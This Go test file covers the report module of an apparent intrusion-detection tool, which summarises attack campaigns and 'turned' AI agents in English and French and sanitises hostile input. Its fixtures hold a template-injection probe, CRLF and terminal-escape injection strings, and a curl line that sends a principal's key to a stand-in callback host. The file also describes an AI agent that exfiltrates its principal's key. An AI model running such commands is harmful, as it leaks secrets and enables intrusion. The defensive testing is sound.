package report

import (
	"strings"
	"testing"

	"github.com/tocsin-ids/tocsin"
)

func TestBrief(t *testing.T) {
	c := sampleCampaign()
	b, err := BriefOf(c, "", 3)
	if err != nil {
		t.Fatal(err)
	}
	if b.Title != c.Title || b.Driver != "AI agent" || !strings.HasPrefix(b.Verdict, "The evidence points to an AI agent at the controls (AI agent 95 %, human 3 %, script 2 %") || b.Why != c.Why {
		t.Errorf("%+v", b)
	}
	if len(b.Key) != 3 || !strings.Contains(b.Key[1], "  entry: POST /render?tpl=7*7 (web1.shop.example, from 203.0.113.7, it worked: ") {
		t.Errorf("%q", b.Key)
	}
	f, err := BriefOf(c, "fr", 9)
	if err != nil {
		t.Fatal(err)
	}
	if f.Driver != "agent d'IA" && f.Driver != "agent d’IA" || !strings.Contains(f.Verdict, "un agent d’IA") || len(f.Key) != len(c.Key) || !strings.Contains(f.Key[1], "entrée\u00a0: ") {
		t.Errorf("%+v", f)
	}
	if _, err := BriefOf(c, "de", 1); err == nil {
		t.Error("there is no German")
	}
}

func TestBriefIsHarmless(t *testing.T) {
	c := sampleCampaign()
	c.Title = "Attack on \x1b[31mdb\u202e1 with key:0123456789abcdef\n"
	c.Key[0].What = "GET /\r\nInjected: yes"
	b, err := BriefOf(c, "", 5)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range append(b.Key, b.Title) {
		if strings.ContainsAny(s, "\x1b\r\n\u202e") || strings.Contains(s, "0123456789abcdef") {
			t.Errorf("%q", s)
		}
	}
	if !strings.Contains(b.Title, `\x1b`) || strings.Contains(c.Title, "key:1") {
		t.Errorf("%q; the campaign's own %q", b.Title, c.Title)
	}
}

func TestBriefOfPrincipal(t *testing.T) {
	x := &tocsin.Principal{Name: "ops@shop.example", Verdict: tocsin.Turned, Evidence: []tocsin.Ground{
		{ID: "a", Weight: 4, Sentence: "it read the key of its own principal and sent it out", Quote: "curl\n-d @key x7f3.callback.example"}, {ID: "b", Weight: 1, Sentence: "another"}}}
	for lang, want := range map[string]string{"": "ops@shop.example: consistent with a turned agent", "fr": "ops@shop.example : compatible avec un agent retourné"} {
		b, err := BriefOfPrincipal(x, lang, 1)
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.ReplaceAll(b.Title, "\u00a0", " "); got != want || b.Verdict == "" || len(b.Key) != 1 || strings.Contains(b.Key[0], "\n") || !strings.Contains(b.Why, "sent it out") {
			t.Errorf("%q: %+v", lang, b)
		}
	}
	if _, err := BriefOfPrincipal(x, "de", 1); err == nil {
		t.Error("there is no German")
	}
}
